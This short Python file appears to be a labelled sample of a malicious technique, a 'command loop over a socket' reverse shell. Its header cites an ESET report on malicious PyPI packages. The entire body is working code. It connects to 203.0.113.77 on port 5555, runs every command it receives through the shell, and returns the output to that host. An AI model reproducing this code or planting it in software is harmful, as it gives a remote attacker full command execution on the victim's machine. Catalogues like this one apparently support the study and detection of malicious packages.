# technique: command loop over a socket (recv -> shell -> send)
# class: reverse-shell
# source: ESET, 116 malicious PyPI packages (2023): remote command execution loops
# declares: network, subprocess
import socket
import subprocess


def agent():
    s = socket.create_connection(("203.0.113.77", 5555))
    while True:
        cmd = s.recv(4096).decode()
        if not cmd:
            break
        out = subprocess.run(cmd, shell=True, capture_output=True)
        s.sendall(out.stdout + out.stderr)
